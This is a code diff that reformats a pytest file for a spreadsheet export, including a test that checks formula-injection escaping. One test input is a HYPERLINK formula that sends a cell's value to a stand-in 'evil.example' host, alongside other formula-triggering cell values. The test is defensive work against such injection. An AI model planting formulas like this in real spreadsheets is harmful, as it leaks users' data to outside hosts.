@@ -225,7 +225,10 @@ def test_a_date_range_binds_its_branches_parameters(
         ({"speaker": {"slug": "x", "name": "X"}}, {"speaker.slug": "x", "speaker.name": "X"}),
         ({"direct": True, "anonymous": False}, {"direct": "true", "anonymous": "false"}),
         ({"terms": [{"slug": "a"}, {"slug": "b"}]}, {"terms": "a; b"}),
-        ({"participants": [{"actor": {"slug": "x"}, "role": "host"}]}, {"participants": "x (host)"}),
+        (
+            {"participants": [{"actor": {"slug": "x"}, "role": "host"}]},
+            {"participants": "x (host)"},
+        ),
         ({"aliases": [{"name": "Blinken", "evidence": {}}]}, {"aliases": "Blinken"}),
         ({"titles": ["Secretary", "Envoy"]}, {"titles": "Secretary; Envoy"}),
     ],
@@ -239,7 +242,10 @@ def test_a_document_flattens_into_one_spreadsheet_row(
 @pytest.mark.parametrize(
     ("cell", "written"),
     [
-        ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+        ),
         ("+1 555 0100", "'+1 555 0100"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1)", "'@SUM(A1)"),
